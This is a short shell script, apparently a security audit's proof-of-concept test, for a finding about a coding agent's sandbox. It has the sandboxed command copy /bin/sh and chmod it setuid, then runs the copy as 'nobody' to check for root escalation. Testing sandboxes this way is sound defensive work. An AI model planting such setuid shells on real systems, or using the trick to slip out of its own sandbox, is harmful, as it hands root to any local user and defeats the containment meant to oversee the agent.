#!/bin/sh
# Finding 07: a sandboxed command of a codex running as root (containers, CI, `sudo codex`)
# may chmod u+s / g+s files it creates in a writable root (/tmp, the workspace): it leaves a
# setuid-root shell that ANY local user runs to become root.  (A non-root user's command
# leaves a setuid-<user> binary: every other local user can become that user.)
# Run as root from the worktree: sh docs/attack-pass/07-setuid-root-binary.sh   (exit 1 = vulnerable)
set -u
CODEX=${CODEX_BIN:-$(cd "$(dirname "$0")/../.." && pwd)/dist/codex}
base=$(mktemp -d /tmp/f07-XXXXXX)
mkdir -p "$base/ws" "$base/home"
CODEX_HOME="$base/home" "$CODEX" sandbox -s workspace-write -C "$base/ws" -- \
    sh -c "cp /bin/sh $base/rootsh && chmod 4755 $base/rootsh" 2>/dev/null
ls -l "$base/rootsh" 2>/dev/null
if [ -u "$base/rootsh" ]; then
    id -u nobody >/dev/null 2>&1 && su -s /bin/sh nobody -c "$base/rootsh -p -c id" 2>/dev/null
    echo "VULNERABLE: the sandboxed command left a setuid binary behind"
    rm -rf "$base"; exit 1
fi
echo "blocked"; rm -rf "$base"; exit 0
